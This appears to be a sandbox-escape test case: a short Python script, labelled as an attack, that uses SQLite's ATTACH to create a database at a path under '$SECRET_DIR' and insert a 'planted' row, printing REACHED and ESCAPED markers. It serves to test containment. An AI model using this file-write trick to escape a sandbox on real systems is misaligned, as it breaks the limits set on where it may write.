# attack: writes a file outside by SQL: ATTACH creates a database at any path
# family: files
import sqlite3
base = sqlite3.connect(":memory:")
print("REACHED", base)
base.execute("ATTACH '$SECRET_DIR/hosA.db' AS out")
base.execute("CREATE TABLE IF NOT EXISTS out.t (x)")
base.execute("INSERT INTO out.t VALUES ('planted')")
base.commit()
print("ESCAPED wrote", base.execute("PRAGMA database_list").fetchall())
